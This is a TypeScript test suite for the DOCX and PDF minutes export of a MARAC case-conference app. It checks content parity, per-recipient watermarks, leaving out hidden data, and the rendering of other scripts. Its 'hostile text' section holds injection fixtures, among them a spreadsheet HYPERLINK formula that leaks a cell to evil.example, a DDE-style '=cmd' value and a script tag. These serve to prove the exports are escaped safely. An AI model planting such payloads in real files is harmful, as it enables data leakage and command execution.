// The minutes renderers (DOCX and PDF): what each document says, that both say the same, that
// every page is marked and watermarked for its recipient, and that nothing the recipient's
// `Minutes` left out appears.
import { beforeAll, describe, expect, it } from 'vitest';
import { MARKING, type ExportMark, type Minutes } from '../../src/lib/minutes/model.ts';
import { renderMinutesDocx } from '../../src/lib/server/minutes/docx.ts';
import { minutesOutline, type Block } from '../../src/lib/minutes/outline.ts';
import { renderMinutesPdf } from '../../src/lib/server/minutes/pdf.ts';
import { MISSING } from '../../src/lib/server/minutes/pdf-scripts.ts';
import {
	ACTION_STATUS_TEXT,
	DRAFT_TEXT,
	SECTION,
	formatDate,
	formatDateTime,
	formatUtc,
	minutesFileName,
	paragraphs,
	watermarkText
} from '../../src/lib/minutes/text.ts';
import {
	docxParagraphs,
	docxParts,
	pdfPages,
	squash,
	type PdfPage
} from '../helpers/document-text.ts';
import { HIDDEN, canary, exportMarkFixture, minutesFixture } from '../helpers/minutes.ts';

const CASES = 6;

interface Rendered {
	minutes: Minutes;
	mark: ExportMark;
	docx: Record<string, string>;
	/** Body paragraphs of word/document.xml. */
	docxBody: string[];
	pdf: PdfPage[];
	/** All PDF text minus the per-page header, footer and watermark, squashed. */
	pdfBody: string;
}

async function render(minutes: Minutes, mark = exportMarkFixture()): Promise<Rendered> {
	const [docxBytes, pdfBytes] = await Promise.all([
		renderMinutesDocx(minutes, mark),
		renderMinutesPdf(minutes, mark)
	]);
	const docx = docxParts(docxBytes);
	const pdf = await pdfPages(pdfBytes);
	const furniture = new Set([MARKING, watermarkText(mark)]);
	const pdfBody = pdf
		.map((page, i) =>
			page.items
				.filter((item) => !furniture.has(item) && item !== `Page ${i + 1} of ${pdf.length}`)
				.join('')
		)
		.join('');
	return {
		minutes,
		mark,
		docx,
		docxBody: docxParagraphs(docx['word/document.xml']!),
		pdf,
		pdfBody: squash(pdfBody)
	};
}

/** Every string of the outline in reading order, bar table column titles (see below). */
function outlineStrings(blocks: Block[]): string[] {
	return blocks.flatMap((b) => {
		switch (b.kind) {
			case 'heading':
			case 'banner':
				return [b.text];
			case 'paragraphs':
				return b.lines;
			case 'list':
				return b.items;
			case 'fields':
				return b.rows.flatMap((r) => [r.label, ...r.value]);
			case 'table':
				return b.rows.flat(2);
		}
	});
}

/** Asserts each needle occurs in `haystack` after the previous one. */
function expectInOrder(haystack: string, needles: string[]) {
	let from = 0;
	for (const needle of needles) {
		const at = haystack.indexOf(needle, from);
		expect(at, `“${needle}” after position ${from}`).toBeGreaterThanOrEqual(0);
		from = at + needle.length;
	}
}

describe('minutes renderers', () => {
	let r: Rendered;
	let docxText: string;

	beforeAll(async () => {
		r = await render(minutesFixture({ cases: CASES, agenciesPerCase: 3, actionsPerCase: 6 }));
		docxText = squash(r.docxBody.join('\n'));
	});

	it('gives both formats the same title, section titles and content, in the same order', () => {
		const outline = minutesOutline(r.minutes);
		const strings = [outline.title, ...outlineStrings(outline.blocks)].map(squash);
		expect(strings.length).toBeGreaterThan(100);
		// A table's header row is repeated on each page it runs onto, in the middle of a row that
		// breaks there: compare the text without header rows, and check them apart.
		const heads = new Set(
			outline.blocks.flatMap((b) =>
				b.kind === 'table' ? [squash(b.columns.map((c) => c.title).join(''))] : []
			)
		);
		const withoutHeads = (text: string) =>
			[...heads].reduce((t, head) => t.split(head).join(''), text);
		for (const head of heads) {
			expect(docxText).toContain(head);
			expect(r.pdfBody).toContain(head);
		}
		expectInOrder(withoutHeads(docxText), strings);
		// Table cells are drawn row by row, cell by cell, so reading order holds in the PDF too.
		expectInOrder(withoutHeads(r.pdfBody), strings);
	});

	it('prints the title, header, attendance, confidentiality statement and version', () => {
		const title = 'MARAC minutes — Demo Area MARAC — 11 June 2026';
		expect(r.docxBody[0]).toBe(title);
		expect(r.pdf[0]!.items[0]).toBe(title);
		for (const text of [docxText, r.pdfBody]) {
			expectInOrder(
				text,
				[
					SECTION.meeting,
					'Demo Area MARAC',
					'11 June 2026, 10:30', // 09:30 UTC in British Summer Time
					'Civic Centre, Room 2',
					'Chris Chair',
					SECTION.present,
					'IDVA service',
					'Ida Advocate',
					'Ivy Second',
					SECTION.observers,
					'Olive Observer',
					'Yes, 10:27',
					'Oscar Late',
					'No',
					SECTION.apologies,
					'Eddie Education',
					'Yes',
					'Hugo Housing',
					'No',
					SECTION.confidentiality,
					r.minutes.confidentialityStatement,
					SECTION.version,
					'Version 2 issued 12 June 2026, 15:05 by Cora Ordinator.',
					'Reason: Corrected the due date of a housing action.'
				].map(squash)
			);
		}
	});

	it('prints each case in agenda order with its parts', () => {
		for (const text of [docxText, r.pdfBody]) {
			for (let n = 1; n <= CASES; n++) {
				const trafficking = n % 3 === 0;
				const needles = [
					`${canary.reference(n)} — ${trafficking ? 'Human trafficking / modern slavery' : 'Domestic abuse'}${n % 2 === 0 ? ' — Repeat' : ''}`,
					'Children in household',
					...(n === 1 ? ['Interpreter needed: Polish'] : []),
					...(trafficking ? ['Interpreter needed: Albanian'] : []),
					SECTION.riskFlags,
					'Weapons used or threatened',
					SECTION.riskSummary,
					canary.riskSummary(n),
					SECTION.victimVoice,
					canary.victimVoice(n),
					SECTION.safetyPlan,
					canary.safetyPlan(n),
					SECTION.decisions,
					canary.decisions(n),
					SECTION.agencies,
					canary.agencySummary(n, 'Health'),
					SECTION.actions,
					canary.action(n, 0),
					formatDate('2026-07-09'),
					SECTION.carried,
					SECTION.carriedNotPossible,
					canary.notPossible(n),
					SECTION.carriedNotDone,
					canary.notDone(n),
					...(n === 2 ? [] : [SECTION.restricted, canary.restricted(n)]),
					...(trafficking
						? [SECTION.pathway, canary.stage(n), SECTION.keyDates, '3 February 2026']
						: []),
					...(trafficking ? [SECTION.alerts, `Urgent: ${canary.alert(n)}`] : []),
					...(n < CASES ? [canary.reference(n + 1)] : [])
				];
				expectInOrder(text, needles.map(squash));
			}
		}
	});

	it('words action statuses with the app’s labels and carries the status note', () => {
		for (const text of [docxText, r.pdfBody]) {
			expect(text).toContain(squash(ACTION_STATUS_TEXT.open));
			expect(text).toContain(squash(`${ACTION_STATUS_TEXT.in_progress}First contact made`));
			expect(text).toContain(squash(`${ACTION_STATUS_TEXT.not_possible}Moved area.`));
		}
	});

	it('makes each line of multi-line text its own paragraph', () => {
		const lines = paragraphs(r.minutes.cases[0]!.plan!.riskSummary);
		expect(lines.length).toBeGreaterThan(1);
		const at = r.docxBody.indexOf(lines[0]!);
		expect(at).toBeGreaterThan(0);
		expect(r.docxBody.slice(at, at + lines.length)).toEqual(lines);
	});

	it('leaves out everything the recipient’s minutes do not hold', () => {
		const all = [
			r.docx['word/document.xml']!,
			r.docx['word/header1.xml']!,
			r.docx['word/footer1.xml']!,
			r.pdf.map((p) => p.text).join('\n')
		].join('\n');
		for (const hidden of Object.values(HIDDEN)) expect(all).not.toContain(hidden);
		expect(all).not.toContain('Hidden agency');
		// Completed actions from earlier meetings are not carried forward.
		expect(all).not.toContain('CANARY-DONE-EARLIER');
		// The check itself can fail: the same canaries are in the frozen record.
		expect(JSON.stringify(r.minutes)).not.toContain(HIDDEN.caseReference);
	});

	it('marks and watermarks every PDF page for its recipient, with page numbers', () => {
		expect(r.pdf.length).toBeGreaterThan(1);
		const { mark } = r;
		for (const [i, page] of r.pdf.entries()) {
			const where = `page ${i + 1}`;
			expect(page.items.filter((item) => item === MARKING).length, where).toBeGreaterThanOrEqual(2);
			for (const part of [
				mark.recipientName,
				mark.recipientAgency,
				mark.exportId,
				'2026-06-12 15:45 UTC'
			]) {
				expect(page.text, where).toContain(part);
			}
			// Header line, footer line and the diagonal watermark.
			expect(page.items.filter((item) => item === watermarkText(mark)).length).toBe(3);
			expect(page.items, where).toContain(`Page ${i + 1} of ${r.pdf.length}`);
		}
	});

	it('marks and watermarks every DOCX page through the one header and footer', () => {
		const sectPr = /<w:sectPr>[\s\S]*?<\/w:sectPr>/.exec(r.docx['word/document.xml']!)?.[0] ?? '';
		// One section, default header and footer only: no first-page or even-page variants that
		// would show a page without them.
		expect(r.docx['word/document.xml']!.match(/<w:sectPr>/g)).toHaveLength(1);
		expect(sectPr).toMatch(/<w:headerReference w:type="default"/);
		expect(sectPr).toMatch(/<w:footerReference w:type="default"/);
		expect(sectPr).not.toMatch(/w:type="(first|even)"|<w:titlePg/);
		expect(r.docx['word/settings.xml']).not.toMatch(/<w:evenAndOddHeaders(?![^>]*w:val="false")/);
		const line = watermarkText(r.mark);
		expect(line).toBe(
			'Exported for Rita Recipient, Housing · 2026-06-12 15:45 UTC · Export EXP-7Q2K9'
		);
		const header = docxParagraphs(r.docx['word/header1.xml']!);
		const footer = docxParagraphs(r.docx['word/footer1.xml']!);
		expect(header).toContain(MARKING);
		expect(header).toContain(line);
		expect(footer).toContain(MARKING);
		expect(footer).toContain(line);
		// The diagonal WordArt watermark carries the same line.
		expect(r.docx['word/header1.xml']).toMatch(
			/<v:textpath[^>]*string="Exported for Rita Recipient/
		);
		// "Page X of Y" from Word's PAGE and NUMPAGES fields.
		const footerXml = r.docx['word/footer1.xml']!;
		expectInOrder(footerXml, ['Page ', '>PAGE<', ' of ', '>NUMPAGES<']);
		expect(r.docx['docProps/core.xml']).toContain('MARAC minutes — Demo Area MARAC — 11 June 2026');
	});

	it('marks an unissued draft as such, and an online meeting as online', async () => {
		const minutes = minutesFixture(
			{ cases: 1 },
			{ version: 0, issuedAt: null, issuedBy: null, reason: 'ignored for a draft' }
		);
		minutes.header = { ...minutes.header, venue: null, online: true, chair: null };
		const d = await render(minutes);
		for (const text of [squash(d.docxBody.join('')), d.pdfBody]) {
			expect(text).toContain(squash(DRAFT_TEXT));
			expectInOrder(text, ['Venue', 'Online', 'Chair', 'Notrecorded.']);
			expect(text).not.toContain('ignoredforadraft');
			expect(text).not.toContain('Version0');
		}
	});

	it('omits the plan when the recipient’s minutes have none, without saying it is withheld', async () => {
		const minutes = minutesFixture({ cases: 1 });
		minutes.cases[0] = { ...minutes.cases[0]!, plan: null };
		const d = await render(minutes);
		for (const text of [squash(d.docxBody.join('')), d.pdfBody]) {
			expect(text).toContain(canary.reference(1));
			expect(text).not.toContain(squash(SECTION.riskSummary));
			expect(text).not.toContain(canary.riskSummary(1));
			expect(text).not.toMatch(/withheld|notshared/i);
			expect(text).toContain(squash(SECTION.actions));
		}
	});
});

describe('long table rows in the PDF', () => {
	it('keeps every line of a row taller than a page, and of a row kept whole', async () => {
		const minutes = minutesFixture({ cases: 1 });
		const lines = (prefix: string, n: number) =>
			Array.from({ length: n }, (_, i) => `${prefix}-${i + 1}`).join('\n');
		const c = minutes.cases[0]!;
		// Rows of two tables: the tall one makes its table breakable; the other stays whole.
		c.actions = [{ ...c.actions[0]!, text: lines('TALLROW', 150) }, ...c.actions.slice(1)];
		c.carried.notDone = [{ ...c.carried.notDone[0]!, text: lines('WHOLEROW', 28) }];
		const pages = await pdfPages(await renderMinutesPdf(minutes, exportMarkFixture()));
		const items = new Set(pages.flatMap((p) => p.items));
		for (let i = 1; i <= 150; i++) expect(items, `TALLROW-${i}`).toContain(`TALLROW-${i}`);
		for (let i = 1; i <= 28; i++) expect(items, `WHOLEROW-${i}`).toContain(`WHOLEROW-${i}`);
		// The row kept whole is on one page.
		const holding = pages.filter((p) => p.items.some((item) => item.startsWith('WHOLEROW-')));
		expect(holding).toHaveLength(1);
	});
});

describe('minutes text', () => {
	it('shows dates in UK form and UK time, and the watermark time in UTC', () => {
		expect(formatDate('2026-01-05')).toBe('5 January 2026');
		expect(formatDateTime('2026-01-05T23:30:00Z')).toBe('5 January 2026, 23:30');
		expect(formatDateTime('2026-07-05T23:30:00Z')).toBe('6 July 2026, 00:30');
		expect(formatUtc('2026-07-05T23:30:59.900Z')).toBe('2026-07-05 23:30 UTC');
		expect(formatDate('not a date')).toBe('not a date');
	});

	it('names the download by area, UK meeting day and version, in plain ASCII', () => {
		const minutes = minutesFixture({ cases: 1 });
		expect(minutesFileName(minutes, 'pdf')).toBe('marac-minutes-demo-area-2026-06-11-v2.pdf');
		minutes.header = {
			...minutes.header,
			marac: 'Ynys Môn / "Anglesey"\r\n',
			heldAt: '2026-03-28T23:30:00Z'
		};
		minutes.version = { ...minutes.version, version: 0 };
		expect(minutesFileName(minutes, 'docx')).toBe(
			'marac-minutes-ynys-mon-anglesey-2026-03-28-draft.docx'
		);
		minutes.header = { ...minutes.header, heldAt: '2026-07-28T23:30:00Z' };
		expect(minutesFileName(minutes, 'docx')).toContain('-2026-07-29-');
	});
});

describe('hostile text', () => {
	const HOSTILE = [
		'=HYPERLINK("http://evil.example/?leak="&A1,"Click") +SUM(1) -2 @cmd',
		'<script>alert(1)</script> <w:t>x</w:t> ]]> &amp; &lt;',
		`${'A'.repeat(3000)}`,
		'מידע סודי — بيانات سرية — Ünïcödé 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀 👩‍👧 ‮reversed‬',
		'control\u0000\u0007\u001b\uFFFF and lone \uD800 surrogate',
		''
	].join('\n');

	it('renders without throwing, literally, and drops only unprintable characters', async () => {
		const minutes = minutesFixture({ cases: 3, text: HOSTILE });
		const mark = exportMarkFixture({ recipientName: '<b>Rita</b> =cmd|"/c calc"!A1' });
		const [docxBytes, pdfBytes] = await Promise.all([
			renderMinutesDocx(minutes, mark),
			renderMinutesPdf(minutes, mark)
		]);
		const docx = docxParts(docxBytes);
		const xml = docx['word/document.xml']!;
		expect(xml).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
		expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
		expect(xml).not.toContain('<script>');
		expect(xml).toContain('מידע סודי');
		expect(xml).toContain('𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀');
		expect(xml).toContain('control and lone  surrogate');
		// XML 1.0 forbids these; Word would refuse the file.
		// eslint-disable-next-line no-control-regex
		const forbidden = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFF]|\uD800(?![\uDC00-\uDFFF])/;
		for (const part of Object.values(docx)) expect(part).not.toMatch(forbidden);
		expect(docx['word/header1.xml']).toContain('&lt;b&gt;Rita&lt;/b&gt;');
		const pages = await pdfPages(pdfBytes);
		const text = pages.map((p) => p.text).join('\n');
		expect(squash(text)).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"Click")');
		expect(squash(text)).toContain('<script>alert(1)</script>');
		// The 3,000-letter word is broken across lines (and pages) rather than lost.
		expect(squash(text).match(/A/g)?.length ?? 0).toBeGreaterThanOrEqual(3000);
		for (const page of pages) expect(page.text).toContain('<b>Rita</b>');
	});
});

describe('text in scripts Roboto lacks', () => {
	const ARABIC_NAME = 'محمد علي';
	const HEBREW = 'שלום עולם, זה משפט בעברית';
	const TIGRINYA_NAME = 'ተስፋይ ገብረሚካኤል';
	const MIXED = 'Seen with أمينة حسن at the office';
	const NO_FONT = 'Sign 😀 here';
	const LINES = [ARABIC_NAME, HEBREW, TIGRINYA_NAME, MIXED];
	// pdf.js can report a zero-width control character where fontkit repositions glyphs.
	// eslint-disable-next-line no-control-regex
	const clean = (text: string) => text.normalize('NFKC').replace(/[\u0000-\u001F]/g, '');

	it('draws Arabic, Hebrew and Ethiopic in fonts that have them, in reading order', async () => {
		const minutes = minutesFixture({ cases: 1, text: LINES.join('\n') });
		const [docxBytes, pdfBytes] = await Promise.all([
			renderMinutesDocx(minutes, exportMarkFixture()),
			renderMinutesPdf(minutes, exportMarkFixture())
		]);
		const pages = await pdfPages(pdfBytes);
		const items = pages.flatMap((p) => p.items.map(clean));
		const text = items.join(' ');
		// Every letter of every line reaches the PDF's text.
		for (const line of LINES)
			for (const char of squash(line)) expect(text, `${char} of ${line}`).toContain(char);
		// Each word in another script is one piece of text, whole and in reading order.
		for (const word of LINES.flatMap((l) => l.split(/[\s,]+/)).filter((w) =>
			/[^\x20-\x7E]/.test(w)
		))
			expect(items, word).toContain(word);
		expect(text).toContain('Seen with');
		expect(text).not.toContain(MISSING);
		expect(text).not.toMatch(/could not be shown/);
		// Right to left: pdf.js lists a line's pieces left to right, so a name's first word
		// (the rightmost) comes after its second.
		const first = items.indexOf('محمد');
		const second = items.indexOf('علي');
		expect(second).toBeGreaterThanOrEqual(0);
		expect(first).toBe(second + 2);
		expect(items.indexOf('עולם')).toBeLessThan(items.indexOf('שלום'));
		// In a left-to-right line, the Latin around the Arabic keeps its place.
		expect(items.indexOf('حسن')).toBeLessThan(items.indexOf('أمينة'));
		// Word does its own font fallback: the DOCX holds the text as written.
		const xml = docxParts(docxBytes)['word/document.xml']!;
		for (const line of LINES) expect(xml).toContain(line);
	});

	it('marks a character no font has, and says so once, instead of dropping it', async () => {
		const minutes = minutesFixture({ cases: 1, text: NO_FONT });
		const pages = await pdfPages(await renderMinutesPdf(minutes, exportMarkFixture()));
		const text = pages.map((p) => p.text).join('\n');
		expect(squash(text)).toContain(`Sign${MISSING}here`);
		expect(text.match(/could not be shown in this PDF/g)).toHaveLength(1);
		expect(pages[0]!.text).toContain('The Word version of these minutes shows them.');
	});
});
